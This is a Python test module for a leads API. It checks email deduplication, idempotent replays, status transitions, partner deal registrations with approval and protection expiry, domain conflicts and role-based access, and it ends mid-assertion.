# SPDX-License-Identifier: Apache-2.0
"""Leads: create and read, one lead per normalised email (and per external id), Idempotency-Key replays, the
lifecycle and its history, time to conversion, deal registrations by partners with their conflicts (email, company
domain, free-mail exception, window), approval, rejection and expiry of the protection, what partner, agent and
manager credentials may see and do, list filters and pagination, the CSV export (with formula cells made inert),
and bad input that is refused without writing anything."""
import csv
import io
import threading
from datetime import datetime, timedelta, timezone
from urllib.parse import quote

from harness import db_counts, db_rows, expect, walk_pages

LEADS = "/api/v1/leads"
PROGRAMS = "/api/v1/programs"
PARTNERS = "/api/v1/partners"
DAY = 86400 * 1000
HOUR = 3600 * 1000
TABLES = ("leads", "lead_events", "idempotency", "audit_log")
ADMIN = [None]  # the module's admin key, for helpers that are not given one
CSV_HEADER = ["id", "created_at", "email", "external_id", "name", "company", "phone", "source", "status",
              "partner_id", "agent_id", "method", "click_id", "registration", "converted_at"]


def setup(srv):
    admin = srv.admin_key()
    ADMIN[0] = admin
    ctx = {"admin": admin, "clock": 0}

    def program(name, **extra):
        body = {"name": name, "currency": "usd"}
        body.update(extra)
        return expect(srv.post(PROGRAMS, body, key=admin), 201)["id"]

    ctx["prog"] = program("Leads")
    ctx["other"] = program("Other")

    def partner(key, name, prog="prog", **extra):
        body = {"program_id": ctx[prog], "name": name, "email": key + "@partners.example"}
        body.update(extra)
        ctx[key] = expect(srv.post(PARTNERS, body, key=admin), 201)["id"]

    partner("p1", "Northwind Org", company="Northwind")
    partner("a1", "Agent One", kind="agent", team_parent_id=ctx["p1"])
    partner("a2", "Agent Two", kind="agent", team_parent_id=ctx["p1"])
    partner("t1", "Team Affiliate", kind="affiliate", team_parent_id=ctx["p1"])
    partner("p2", "Second Partner")
    partner("pm", "Other Program Partner", prog="other")
    ctx["k_p1"] = srv.admin_key(role="partner", partner=ctx["p1"], name="p1")
    ctx["k_a1"] = srv.admin_key(role="partner", partner=ctx["a1"], name="a1")
    ctx["k_p2"] = srv.admin_key(role="partner", partner=ctx["p2"], name="p2")
    ctx["k_mgr"] = srv.admin_key(role="manager", partner=ctx["p1"], name="manager")
    ctx["pw"] = srv.add_user("rep@second.example", "partner", partner=ctx["p2"])
    srv.add_user("boss@northwind.example", "manager", partner=ctx["p1"], password=ctx["pw"])
    login(srv, ctx)
    return ctx


def login(srv, ctx):
    ctx["s_p2"] = srv.login("rep@second.example", ctx["pw"])
    ctx["s_mgr"] = srv.login("boss@northwind.example", ctx["pw"])


# ---- helpers ----

def advance(srv, ctx, ms):
    """Moves refd's clock forward by ms (the offset only ever grows in this module)."""
    ctx["clock"] += int(ms)
    srv.set_clock(ctx["clock"])
    # Sessions end after a while; days later the users sign in again.
    login(srv, ctx)


def new(srv, ctx, key=None, status=201, session=None, headers=None, prog="prog", **fields):
    body = {"program_id": ctx[prog]} if prog else {}
    body.update(fields)
    if session is not None:
        r = srv.post(LEADS, body, session=session, headers=headers)
    else:
        r = srv.post(LEADS, body, key=key or ctx["admin"], headers=headers)
    return expect(r, status)


def get(srv, ctx, lid, key=None):
    return expect(srv.get(LEADS + "/" + lid, key=key or ctx["admin"]), 200)


def move(srv, ctx, lid, to, reason=None, key=None, status=200, field=None):
    body = {"status": to}
    if reason is not None:
        body["reason"] = reason
    return expect(srv.post(LEADS + "/" + lid + "/status", body, key=key or ctx["admin"]), status, field=field)


def history(srv, ctx, lid, key=None):
    return expect(srv.get(LEADS + "/" + lid + "/history", key=key or ctx["admin"]), 200)


def ts(s):
    return datetime.strptime(s, "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc)


def rfc3339(dt):
    return dt.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def ids(items):
    return [x["id"] for x in items]


def listed(srv, path, key=None, session=None):
    kw = {"session": session} if session is not None else {"key": key or ADMIN[0]}
    items, _ = walk_pages(srv, path, 100, **kw)
    return items


def export(srv, query="", key=None, session=None):
    kw = {"session": session} if session is not None else {"key": key or ADMIN[0]}
    r = srv.get(LEADS + "/export" + query, **kw)
    assert r.status == 200, r
    assert r.header("Content-Type").startswith("text/csv"), r.headers
    rows = list(csv.reader(io.StringIO(r.body, newline="")))
    assert rows and rows[0] == CSV_HEADER, rows[:1]
    return [dict(zip(CSV_HEADER, row)) for row in rows[1:]], r


def parallel(fns):
    out = [None] * len(fns)

    def run(i, f):
        out[i] = f()
    ts_ = [threading.Thread(target=run, args=(i, f)) for i, f in enumerate(fns)]
    for t in ts_:
        t.start()
    for t in ts_:
        t.join()
    return out


# ---- create and read ----

def test_create_with_defaults(srv, ctx):
    l = new(srv, ctx, email="  Alice.Smith@Example.COM ")
    assert l["id"].startswith("lead_") and l["object"] == "lead"
    assert l["program_id"] == ctx["prog"]
    assert l["email"] == "alice.smith@example.com", "trimmed and lower-cased"
    assert l["external_id"] is None and l["name"] is None and l["company"] is None and l["phone"] is None
    assert l["source"] == "direct" and l["status"] == "new"
    assert l["attribution"] == {"partner_id": None, "agent_id": None, "method": "none", "click_id": None}
    assert l["registration"] is None
    assert l["metadata"] == {}
    assert l["created_at"] == l["updated_at"] == l["status_changed_at"]
    assert l["converted_at"] is None and l["time_to_conversion_seconds"] is None
    assert "duplicate" not in l and "conflicts" not in l
    assert get(srv, ctx, l["id"]) == l
    ctx["alice"] = l


def test_create_with_every_member(srv, ctx):
    meta = {"crm": {"id": "0061x00000XYZ", "stage": 2}, "tags": ["hot", None], "score": 9.5}
    l = new(srv, ctx, email="bob@jones.example", external_id="  crm-001 ", name="  Bob Jones ", company="Jones GmbH",
            phone="+49 (30) 1234-567", source="referral", metadata=meta)
    assert l["external_id"] == "crm-001" and l["name"] == "Bob Jones" and l["company"] == "Jones GmbH"
    assert l["phone"] == "+49 (30) 1234-567" and l["source"] == "referral" and l["metadata"] == meta
    assert get(srv, ctx, l["id"]) == l
    ctx["bob"] = l


def test_external_id_alone_identifies_a_lead(srv, ctx):
    l = new(srv, ctx, external_id="crm-only-1", name="No Email")
    assert l["email"] is None and l["external_id"] == "crm-only-1"
    d = new(srv, ctx, status=200, external_id="crm-only-1", name="Someone else")
    assert d["duplicate"] is True and d["id"] == l["id"] and d["name"] == "No Email"
    other = new(srv, ctx, prog="other", external_id="crm-only-1")
    assert other["id"] != l["id"] and other["program_id"] == ctx["other"]
    ctx["crm_only"] = l


def test_external_id_of_an_existing_lead_with_a_new_email_is_that_lead(srv, ctx):
    # The integration sends the CRM id it already sent once, now with the email it learnt since: the same lead
    # (200, duplicate), never a second lead and never a 409 that blames the email.
    before = db_counts(srv, TABLES)
    r = srv.post(LEADS, {"program_id": ctx["prog"], "external_id": "crm-only-1", "email": "late@email.example"},
                 key=ctx["admin"])
    assert r.status == 200 and r.json.get("duplicate") is True and r.json["id"] == ctx["crm_only"]["id"], \
        "POST with a known external_id and a new email: %r" % r
    assert db_counts(srv, TABLES)["leads"] == before["leads"]


def test_same_email_is_the_same_lead(srv, ctx):
    alice = ctx["alice"]
    before = db_counts(srv, TABLES)
    for variant in ("ALICE.SMITH@example.com", "\talice.smith@EXAMPLE.COM  "):
        d = new(srv, ctx, status=200, email=variant, name="Changed Name", partner_id=ctx["p2"], source="paid")
        assert d["duplicate"] is True and d["id"] == alice["id"], d
        # The existing lead is answered as it is: the second request changes nothing.
        assert {k: v for k, v in d.items() if k != "duplicate"} == alice
    after = db_counts(srv, TABLES)
    assert after["leads"] == before["leads"] and after["lead_events"] == before["lead_events"]
    assert get(srv, ctx, alice["id"]) == alice
    # The same person in another program is another lead.
    o = new(srv, ctx, prog="other", email="alice.smith@example.com")
    assert o["id"] != alice["id"] and "duplicate" not in o


def test_concurrent_creates_of_one_email_make_one_lead(srv, ctx):
    def create():
        r = srv.post(LEADS, {"program_id": ctx["prog"], "email": "race@race.example"}, key=ctx["admin"])
        return r.status, (r.json or {}).get("id")
    out = parallel([create] * 8)
    assert sorted(s for s, _ in out) == [200] * 7 + [201], out
    assert len({i for _, i in out}) == 1, out
    assert len(db_rows(srv, "SELECT id FROM leads WHERE email = 'race@race.example'")) == 1


# ---- idempotency ----

def test_idempotency_key_replays_the_stored_answer(srv, ctx):
    body = {"program_id": ctx["prog"], "email": "idem@idem.example", "name": "Idem"}
    h = {"Idempotency-Key": "order-7731"}
    first = srv.post(LEADS, body, key=ctx["admin"], headers=h)
    assert first.status == 201 and first.header("Idempotent-Replayed") is None, first
    before = db_counts(srv, TABLES)
    again = srv.post(LEADS, body, key=ctx["admin"], headers=h)
    assert again.status == 201, again
    assert again.header("Idempotent-Replayed") == "true"
    assert again.json == first.json
    assert db_counts(srv, TABLES) == before
    # The stored answer is replayed as it was, even after the lead moved on.
    move(srv, ctx, first.json["id"], "contacted")
    later = srv.post(LEADS, body, key=ctx["admin"], headers=h)
    assert later.status == 201 and later.json == first.json and later.json["status"] == "new"
    ctx["idem"] = first.json


def test_idempotency_key_with_another_body_is_refused(srv, ctx):
    before = db_counts(srv, TABLES)
    h = {"Idempotency-Key": "order-7731"}
    for body in ({"program_id": ctx["prog"], "email": "someone.else@idem.example"},
                 {"program_id": ctx["prog"], "email": "idem@idem.example", "name": "Idem 2"}):
        r = srv.post(LEADS, body, key=ctx["admin"], headers=h)
        expect(r, 409, field="Idempotency-Key", etype="conflict")
        assert r.header("Idempotent-Replayed") is None
    assert db_counts(srv, TABLES) == before
    assert not db_rows(srv, "SELECT id FROM leads WHERE email = 'someone.else@idem.example'")


def test_idempotency_key_details(srv, ctx):
    # A new key with a known email: the duplicate answer, stored and replayed in turn.
    body = {"program_id": ctx["prog"], "email": "idem@idem.example"}
    d = srv.post(LEADS, body, key=ctx["admin"], headers={"Idempotency-Key": "dup-key-1"})
    assert d.status == 200 and d.json["duplicate"] is True and d.json["id"] == ctx["idem"]["id"]
    d2 = srv.post(LEADS, body, key=ctx["admin"], headers={"Idempotency-Key": "dup-key-1"})
    assert d2.status == 200 and d2.header("Idempotent-Replayed") == "true" and d2.json == d.json
    # A refused request is not stored under its key: the key stays free for the corrected request.
    before = db_counts(srv, TABLES)
    r = srv.post(LEADS, {"program_id": ctx["prog"], "email": "not an email"}, key=ctx["admin"],
                 headers={"Idempotency-Key": "fix-me-1"})
    expect(r, 400, field="email")
    assert db_counts(srv, TABLES) == before
    r = srv.post(LEADS, {"program_id": ctx["prog"], "email": "fixed@idem.example"}, key=ctx["admin"],
                 headers={"Idempotency-Key": "fix-me-1"})
    assert r.status == 201 and r.header("Idempotent-Replayed") is None, r
    # Keys are bounded.
    r = srv.post(LEADS, {"program_id": ctx["prog"], "email": "long@idem.example"}, key=ctx["admin"],
                 headers={"Idempotency-Key": "k" * 201})
    expect(r, 400, field="Idempotency-Key")
    assert not db_rows(srv, "SELECT id FROM leads WHERE email = 'long@idem.example'")


def test_concurrent_requests_with_one_key_make_one_lead(srv, ctx):
    body = {"program_id": ctx["prog"], "email": "idem-race@idem.example"}

    def create():
        r = srv.post(LEADS, body, key=ctx["admin"], headers={"Idempotency-Key": "race-key"})
        return r.status, r.json
    out = parallel([create] * 8)
    assert [s for s, _ in out] == [201] * 8, [s for s, _ in out]
    assert all(j == out[0][1] for _, j in out), "every answer is the one stored answer"
    assert len(db_rows(srv, "SELECT id FROM leads WHERE email = 'idem-race@idem.example'")) == 1


# ---- lifecycle ----

def test_lifecycle_history_and_time_to_conversion(srv, ctx):
    l = new(srv, ctx, email="journey@journey.example", name="Journey")
    steps = [("contacted", "first call"), ("qualified", "  budget confirmed  "), ("converted", None)]
    prev = l
    for to, reason in steps:
        advance(srv, ctx, HOUR)
        u = move(srv, ctx, l["id"], to, reason)
        assert u["status"] == to and u["id"] == l["id"]
        assert ts(u["status_changed_at"]) > ts(prev["status_changed_at"])
        assert u["updated_at"] == u["status_changed_at"] and u["created_at"] == l["created_at"]
        prev = u
    assert prev["converted_at"] == prev["status_changed_at"]
    ttc = prev["time_to_conversion_seconds"]
    assert 3 * 3600 <= ttc <= 3 * 3600 + 5, ttc
    assert get(srv, ctx, l["id"]) == prev
    h = history(srv, ctx, l["id"])
    assert h["object"] == "list" and h["lead_id"] == l["id"] and h["has_more"] is False
    assert h["time_to_conversion_seconds"] == ttc
    moves = [(e["from"], e["to"], e["reason"]) for e in h["data"]]
    assert moves == [(None, "new", None), ("new", "contacted", "first call"),
                     ("contacted", "qualified", "budget confirmed"), ("qualified", "converted", None)], moves
    admin = expect(srv.get("/api/v1/auth/session", key=ctx["admin"]), 200)
    assert {e["actor"] for e in h["data"]} == {admin["api_key_id"]}, h["data"]
    times = [ts(e["at"]) for e in h["data"]]
    assert times == sorted(times) and times[0] == ts(l["created_at"]) and times[-1] == ts(prev["converted_at"])
    # A customer stays a customer.
    for to in ("lost", "new", "qualified"):
        move(srv, ctx, l["id"], to, status=409, field="status")
    assert history(srv, ctx, l["id"])["data"] == h["data"]
    assert get(srv, ctx, l["id"]) == prev
    ctx["customer"] = prev


def test_history_names_the_user_who_moved_the_lead(srv, ctx):
    l = new(srv, ctx, email="by-manager@journey.example", agent_id=ctx["a1"])
    r = srv.post(LEADS + "/" + l["id"] + "/status", {"status": "contacted", "reason": "met at fair"},
                 session=ctx["s_mgr"])
    assert expect(r, 200)["status"] == "contacted"
    me = expect(srv.get("/api/v1/auth/session", session=ctx["s_mgr"]), 200)
    admin = expect(srv.get("/api/v1/auth/session", key=ctx["admin"]), 200)
    h = history(srv, ctx, l["id"])["data"]
    assert [(e["from"], e["to"], e["actor"]) for e in h] == [
        (None, "new", admin["api_key_id"]), ("new", "contacted", me["user_id"])], h
    # The manager reads the history of its team's lead too.
    assert history(srv, ctx, l["id"], key=ctx["k_mgr"])["data"] == h


TRANSITIONS = [
    # (moves to get there, target, allowed)
    ([], "contacted", True), ([], "qualified", True), ([], "converted", True), ([], "lost", True),
    ([], "new", False),
    (["contacted"], "new", False), (["contacted"], "contacted", False), (["contacted"], "lost", True),
    (["qualified"], "contacted", False), (["qualified"], "new", False), (["qualified"], "lost", True),
    (["qualified"], "converted", True),
    (["lost"], "new", True), (["lost"], "contacted", True), (["lost"], "qualified", False),
    (["lost"], "converted", False), (["lost"], "lost", False),
    (["converted"], "lost", False), (["converted"], "contacted", False),
    (["contacted", "lost", "new"], "qualified", True),
]


def test_transitions(srv, ctx):
    problems = []
    for i, (path, to, allowed) in enumerate(TRANSITIONS):
        l = new(srv, ctx, email="move%d@moves.example" % i)
        for step in path:
            move(srv, ctx, l["id"], step)
        before = get(srv, ctx, l["id"])
        r = srv.post(LEADS + "/" + l["id"] + "/status", {"status": to}, key=ctx["admin"])
        if allowed:
            if r.status != 200 or r.json["status"] != to:
                problems.append((path, to, r))
        else:
            if r.status != 409 or r.json["error"]["field"] != "status":
                problems.append((path, to, r))
            if get(srv, ctx, l["id"]) != before:
                problems.append((path, to, "changed"))
    assert not problems, problems


def test_status_input_is_checked(srv, ctx):
    lid = ctx["bob"]["id"]
    before = db_counts(srv, TABLES)
    url = LEADS + "/" + lid + "/status"
    for body, field in [({"status": "won"}, "status"), ({}, "status"), ({"status": 3}, "status"),
                        ({"status": None}, "status"), ({"status": "contacted", "reason": 5}, "reason"),
                        ({"status": "contacted", "reason": "x" * 501}, "reason"),
                        ({"status": "contacted", "note": "x"}, "note")]:
        r = srv.post(url, body, key=ctx["admin"])
        assert r.status == 400 and r.json["error"]["field"] == field, (body, r)
    # The review states are reached through approve and reject only.
    for to in ("pending_review", "rejected"):
        r = srv.post(url, {"status": to}, key=ctx["admin"])
        assert r.status in (400, 409) and r.json["error"]["field"] == "status", (to, r)
    expect(srv.post(LEADS + "/lead_nope/status", {"status": "contacted"}, key=ctx["admin"]), 404, field="id")
    expect(srv.get(LEADS + "/lead_nope/history", key=ctx["admin"]), 404, field="id")
    expect(srv.get(LEADS + "/lead_nope", key=ctx["admin"]), 404, field="id")
    assert db_counts(srv, TABLES) == before
    assert get(srv, ctx, lid)["status"] == "new"


def test_who_may_move_a_lead(srv, ctx):
    team_lead = new(srv, ctx, email="team@movers.example", agent_id=ctx["a1"])
    other_lead = new(srv, ctx, email="other@movers.example", partner_id=ctx["p2"])
    before = db_counts(srv, TABLES)
    # Partners (keys and users) may not move leads, even their own.
    for kw in ({"key": ctx["k_p1"]}, {"key": ctx["k_a1"]}):
        r = srv.post(LEADS + "/" + team_lead["id"] + "/status", {"status": "contacted"}, **kw)
        expect(r, 403, etype="forbidden")
    r = srv.post(LEADS + "/" + other_lead["id"] + "/status", {"status": "contacted"}, session=ctx["s_p2"])
    expect(r, 403)
    # A manager outside the lead's team does not even see it.
    r = srv.post(LEADS + "/" + other_lead["id"] + "/status", {"status": "contacted"}, key=ctx["k_mgr"])
    expect(r, 404, field="id")
    assert db_counts(srv, TABLES) == before
    # The team's manager may.
    assert move(srv, ctx, team_lead["id"], "contacted", key=ctx["k_mgr"])["status"] == "contacted"
    assert get(srv, ctx, other_lead["id"])["status"] == "new"


# ---- deal registrations ----

def test_partner_registers_a_deal(srv, ctx):
    l = new(srv, ctx, key=ctx["k_p2"], prog=None, email="CTO@Widgets.example", name="Widgets CTO",
            company="Widgets")
    assert l["program_id"] == ctx["prog"], "the program comes from the partner"
    assert l["status"] == "pending_review" and l["email"] == "cto@widgets.example"
    assert l["registration"] == {"state": "pending", "reason": None, "protected_until": None}
    assert l["attribution"] == {"partner_id": ctx["p2"], "agent_id": None, "method": "explicit", "click_id": None}
    assert l["source"] == "partner"
    assert l["conflicts"] == []
    h = history(srv, ctx, l["id"], key=ctx["k_p2"])["data"]
    assert [(e["from"], e["to"]) for e in h] == [(None, "pending_review")]
    seen = get(srv, ctx, l["id"], key=ctx["k_p2"])
    assert seen["registration"]["state"] == "pending" and seen["id"] == l["id"]
    ctx["reg"] = l


def test_agent_manager_and_user_registrations_credit_the_team(srv, ctx):
    a = new(srv, ctx, key=ctx["k_a1"], email="deal@agentdeal.example")
    assert a["attribution"]["partner_id"] == ctx["p1"] and a["attribution"]["agent_id"] == ctx["a1"]
    assert a["status"] == "pending_review"
    b = new(srv, ctx, key=ctx["k_p1"], email="deal2@agentdeal2.example", agent_id=ctx["a2"])
    assert b["attribution"]["partner_id"] == ctx["p1"] and b["attribution"]["agent_id"] == ctx["a2"]
    m = new(srv, ctx, key=ctx["k_mgr"], email="deal3@mgrdeal.example")
    assert m["status"] == "pending_review" and m["attribution"]["partner_id"] == ctx["p1"]
    u = new(srv, ctx, session=ctx["s_p2"], email="deal4@userdeal.example")
    assert u["status"] == "pending_review" and u["attribution"]["partner_id"] == ctx["p2"]
    assert u["registration"]["state"] == "pending"
    ctx["reg_a1"], ctx["reg_a2"], ctx["reg_user"] = a, b, u


def test_partner_cannot_register_for_someone_outside_its_team(srv, ctx):
    before = db_counts(srv, TABLES)
    r = new(srv, ctx, key=ctx["k_p1"], status=400, email="x1@outside.example", agent_id=ctx["p2"])
    assert r["error"]["field"] == "agent_id", r
    r = new(srv, ctx, key=ctx["k_p1"], status=400, email="x1@outside.example", partner_id=ctx["p2"])
    assert r["error"]["field"] == "partner_id", r
    r = new(srv, ctx, key=ctx["k_a1"], status=400, email="x1@outside.example", agent_id=ctx["a2"])
    assert r["error"]["field"] == "agent_id", r
    assert db_counts(srv, TABLES) == before


def test_partner_registration_in_another_program_names_program_id(srv, ctx):
    # p2 belongs to the Leads program; naming the Other program is the mistake, and the error says so (the
    # partner did not send partner_id at all).
    before = db_counts(srv, TABLES)
    r = srv.post(LEADS, {"program_id": ctx["other"], "email": "wrong@program.example"}, key=ctx["k_p2"])
    assert r.status in (400, 404) and r.json["error"]["field"] == "program_id", r
    assert db_counts(srv, TABLES) == before


def test_suspended_partner_cannot_register_deals(srv, ctx):
    # Like links (only an active partner creates them), a suspended partner does not register new deals.
    sp = expect(srv.post(PARTNERS, {"program_id": ctx["prog"], "name": "Soon Suspended",
                                    "email": "suspended@partners.example"}, key=ctx["admin"]), 201)["id"]
    k = srv.admin_key(role="partner", partner=sp, name="suspended")
    ok = new(srv, ctx, key=k, email="while-active@susp.example")
    assert ok["status"] == "pending_review"
    expect(srv.post(PARTNERS + "/" + sp + "/suspend", {"reason": "chargebacks"}, key=ctx["admin"]), 200)
    before = db_counts(srv, TABLES)
    r = srv.post(LEADS, {"email": "while-suspended@susp.example"}, key=k)
    assert r.status == 403, "a suspended partner's key registered a deal: %r" % r
    assert db_counts(srv, TABLES) == before
    # Its existing leads stay readable to it.
    assert get(srv, ctx, ok["id"], key=k)["id"] == ok["id"]


def test_registration_of_a_known_prospect(srv, ctx):
    reg = ctx["reg"]
    before = db_counts(srv, TABLES)
    # The same partner again: its lead.
    d = new(srv, ctx, key=ctx["k_p2"], status=200, email="cto@WIDGETS.example")
    assert d["duplicate"] is True and d["id"] == reg["id"]
    # Another partner: refused, naming the email.
    for kw in ({"key": ctx["k_p1"]}, {"key": ctx["k_a1"]}, {"key": ctx["k_mgr"]}):
        r = srv.post(LEADS, {"email": "cto@widgets.example"}, **kw)
        expect(r, 409, field="email", etype="conflict")
    # An admin sending the same person gets the registered lead.
    d = new(srv, ctx, status=200, email="cto@widgets.example")
    assert d["duplicate"] is True and d["id"] == reg["id"] and d["status"] == "pending_review"
    assert db_counts(srv, TABLES)["leads"] == before["leads"]
    # A prospect the business already has (unattributed) cannot be registered by a partner.
    known = new(srv, ctx, email="buyer@known.example")
    r = srv.post(LEADS, {"email": "buyer@known.example"}, key=ctx["k_p2"])
    expect(r, 409, field="email")
    assert get(srv, ctx, known["id"])["attribution"]["partner_id"] is None


def test_pending_registration_cannot_move(srv, ctx):
    move(srv, ctx, ctx["reg"]["id"], "contacted", status=409, field="status")
    assert get(srv, ctx, ctx["reg"]["id"])["status"] == "pending_review"


def test_only_admins_review(srv, ctx):
    lid = ctx["reg"]["id"]
    before = db_counts(srv, TABLES)
    for kw in ({"key": ctx["k_p2"]}, {"key": ctx["k_mgr"]}, {"key": ctx["k_p1"]}, {"session": ctx["s_p2"]},
               {"session": ctx["s_mgr"]}):
        expect(srv.post(LEADS + "/" + lid + "/approve", **kw), 403, etype="forbidden")
        expect(srv.post(LEADS + "/" + lid + "/reject", {"reason": "no"}, **kw), 403, etype="forbidden")
    assert db_counts(srv, TABLES) == before
    assert get(srv, ctx, lid)["registration"]["state"] == "pending"


def test_approve(srv, ctx):
    lid = ctx["reg"]["id"]
    a = expect(srv.post(LEADS + "/" + lid + "/approve", key=ctx["admin"]), 200)
    assert a["status"] == "new" and a["registration"]["state"] == "approved"
    protected = ts(a["registration"]["protected_until"])
    approved_at = ts(a["status_changed_at"])
    assert abs((protected - approved_at) - timedelta(days=90)) < timedelta(seconds=5), (protected, approved_at)
    assert get(srv, ctx, lid, key=ctx["k_p2"]) == get(srv, ctx, lid)
    h = history(srv, ctx, lid)["data"]
    assert [(e["from"], e["to"]) for e in h] == [(None, "pending_review"), ("pending_review", "new")]
    # Approved once; not again, and not rejected afterwards.
    expect(srv.post(LEADS + "/" + lid + "/approve", key=ctx["admin"]), 409, field="status")
    expect(srv.post(LEADS + "/" + lid + "/reject", {"reason": "late"}, key=ctx["admin"]), 409, field="status")
    # It now moves like any lead and keeps its protection.
    u = move(srv, ctx, lid, "contacted")
    assert u["registration"]["state"] == "approved"
    assert u["registration"]["protected_until"] == a["registration"]["protected_until"]
    # Approving something that is not a waiting registration is refused.
    expect(srv.post(LEADS + "/" + ctx["bob"]["id"] + "/approve", key=ctx["admin"]), 409, field="status")
    expect(srv.post(LEADS + "/lead_nope/approve", key=ctx["admin"]), 404, field="id")


def test_reject_needs_a_reason(srv, ctx):
    lid = ctx["reg_a2"]["id"]
    before = db_counts(srv, TABLES)
    url = LEADS + "/" + lid + "/reject"
    expect(srv.post(url, key=ctx["admin"]), 400, field="reason")
    expect(srv.post(url, {}, key=ctx["admin"]), 400, field="reason")
    expect(srv.post(url, {"reason": "   "}, key=ctx["admin"]), 400, field="reason")
    expect(srv.post(url, {"reason": 7}, key=ctx["admin"]), 400, field="reason")
    expect(srv.post(url, {"reason": "x", "extra": 1}, key=ctx["admin"]), 400, field="extra")
    assert db_counts(srv, TABLES) == before
    r = expect(srv.post(url, {"reason": "  Already in our CRM since March  "}, key=ctx["admin"]), 200)
    assert r["status"] == "rejected"
    assert r["registration"]["state"] == "rejected"
    assert r["registration"]["reason"] == "Already in our CRM since March"
    # The partner reads the reason.
    assert get(srv, ctx, lid, key=ctx["k_p1"])["registration"]["reason"] == "Already in our CRM since March"
    h = history(srv, ctx, lid)["data"]
    assert (h[-1]["from"], h[-1]["to"], h[-1]["reason"]) == ("pending_review", "rejected",
                                                             "Already in our CRM since March")
    expect(srv.post(LEADS + "/" + lid + "/approve", key=ctx["admin"]), 409, field="status")
    expect(srv.post(url, {"reason": "again"}, key=ctx["admin"]), 409, field="status")
    move(srv, ctx, lid, "new", status=409, field="status")
    assert get(srv, ctx, lid)["status"] == "rejected"


def test_protection_expires(srv, ctx):
    short = expect(srv.post(PROGRAMS, {"name": "Short", "currency": "usd", "protection_days": 10,
                                       "conflict_days": 5}, key=ctx["admin"]), 201)
    assert short["protection_days"] == 10 and short["conflict_days"] == 5
    ctx["short"] = short["id"]
    ps = expect(srv.post(PARTNERS, {"program_id": short["id"], "name": "Short Partner",
                                    "email": "short@partners.example"}, key=ctx["admin"]), 201)["id"]
    ctx["k_short"] = srv.admin_key(role="partner", partner=ps, name="short")
    l = new(srv, ctx, key=ctx["k_short"], prog=None, email="deal@shortdeal.example")
    assert l["program_id"] == short["id"]
    a = expect(srv.post(LEADS + "/" + l["id"] + "/approve", key=ctx["admin"]), 200)
    until = a["registration"]["protected_until"]
    assert abs(ts(until) - ts(a["status_changed_at"]) - timedelta(days=10)) < timedelta(seconds=5)
    advance(srv, ctx, 9 * DAY)
    assert get(srv, ctx, l["id"])["registration"]["state"] == "approved"
    advance(srv, ctx, 1 * DAY + HOUR)
    g = get(srv, ctx, l["id"])
    assert g["registration"]["state"] == "expired", g["registration"]
    assert g["registration"]["protected_until"] == until and g["status"] == "new"
    assert get(srv, ctx, l["id"], key=ctx["k_short"])["registration"]["state"] == "expired"
    items = listed(srv, LEADS + "?program_id=" + short["id"])
    assert [x["registration"]["state"] for x in items if x["id"] == l["id"]] == ["expired"]


# ---- conflicts ----

def test_conflict_with_an_open_lead_of_the_same_company_domain(srv, ctx):
    dana = new(srv, ctx, email="dana@bigcorp.example")
    r = new(srv, ctx, key=ctx["k_p2"], email="Eve@BigCorp.example")
    assert r["conflicts"] == [{"reason": "domain", "status": "open_lead"}], r["conflicts"]
    ctx["dana"], ctx["eve"] = dana, r


def test_conflict_with_a_customer(srv, ctx):
    frank = new(srv, ctx, email="frank@custco.example")
    for s in ("contacted", "converted"):
        move(srv, ctx, frank["id"], s)
    r = new(srv, ctx, key=ctx["k_p2"], email="gina@custco.example")
    assert r["conflicts"] == [{"reason": "domain", "status": "customer"}], r["conflicts"]


def test_conflict_with_another_partners_pending_registration(srv, ctx):
    new(srv, ctx, key=ctx["k_a1"], email="pat@pendco.example")
    r = new(srv, ctx, key=ctx["k_p2"], email="quin@pendco.example")
    assert r["conflicts"] == [{"reason": "domain", "status": "open_lead"}], r["conflicts"]
    # The partner learns that there is a conflict, not whose lead it is.
    assert all(set(c) == {"reason", "status"} for c in r["conflicts"])


def test_free_mail_domains_never_conflict(srv, ctx):
    for dom in ("gmail.com", "outlook.com", "yahoo.com", "hotmail.com", "icloud.com", "GMX.de"):
        new(srv, ctx, email="first.person@" + dom)
        r = new(srv, ctx, key=ctx["k_p2"], email="second.person@" + dom)
        assert r["conflicts"] == [], (dom, r["conflicts"])
        assert r["status"] == "pending_review"


def test_lost_and_rejected_leads_do_not_conflict(srv, ctx):
    lou = new(srv, ctx, email="lou@lostco.example")
    move(srv, ctx, lou["id"], "lost", "no budget")
    r = new(srv, ctx, key=ctx["k_p2"], email="max@lostco.example")
    assert r["conflicts"] == [], r["conflicts"]
    ned = new(srv, ctx, key=ctx["k_p1"], email="ned@rejco.example")
    expect(srv.post(LEADS + "/" + ned["id"] + "/reject", {"reason": "not a fit"}, key=ctx["admin"]), 200)
    r = new(srv, ctx, key=ctx["k_p2"], email="oli@rejco.example")
    assert r["conflicts"] == [], r["conflicts"]


def test_leads_of_other_programs_and_other_domains_do_not_conflict(srv, ctx):
    new(srv, ctx, prog="other", email="rob@otherprog.example")
    r = new(srv, ctx, key=ctx["k_p2"], email="sam@otherprog.example")
    assert r["conflicts"] == []
    new(srv, ctx, email="tom@sub.near.example")
    r = new(srv, ctx, key=ctx["k_p2"], email="uma@near.example")
    assert r["conflicts"] == [], "another domain, even a parent domain, is not the same company"


def test_conflicts_only_within_the_conflict_window(srv, ctx):
    # The Short program looks back 5 days.
    new(srv, ctx, prog="short", email="old@oldco.example")
    new(srv, ctx, prog="short", email="recent@newco.example")
    advance(srv, ctx, 4 * DAY)
    r = new(srv, ctx, key=ctx["k_short"], prog=None, email="other@newco.example")
    assert r["conflicts"] == [{"reason": "domain", "status": "open_lead"}], r["conflicts"]
    advance(srv, ctx, 2 * DAY)
    r = new(srv, ctx, key=ctx["k_short"], prog=None, email="other@oldco.example")
    assert r["conflicts"] == [], "a lead 6 days old is outside a 5-day conflict window: %r" % r["conflicts"]


def test_several_conflicts_are_all_listed(srv, ctx):
    for i in range(3):
        new(srv, ctx, email="person%d@multico.example" % i)
    r = new(srv, ctx, key=ctx["k_p2"], email="newbie@multico.example")
    assert r["conflicts"] == [{"reason": "domain", "status": "open_lead"}] * 3, r["conflicts"]


def test_admin_sees_whose_lead_a_registration_conflicts_with(srv, ctx):
    # The admin who reviews the registration must be able to see the conflicting lead and its partner.
    eve, dana = ctx["eve"], ctx["dana"]
    g = get(srv, ctx, eve["id"])
    assert "conflicts" in g, "GET of a pending registration by an admin shows no conflicts: %r" % sorted(g)
    assert g["conflicts"] == [{"reason": "domain", "status": "open_lead", "lead_id": dana["id"],
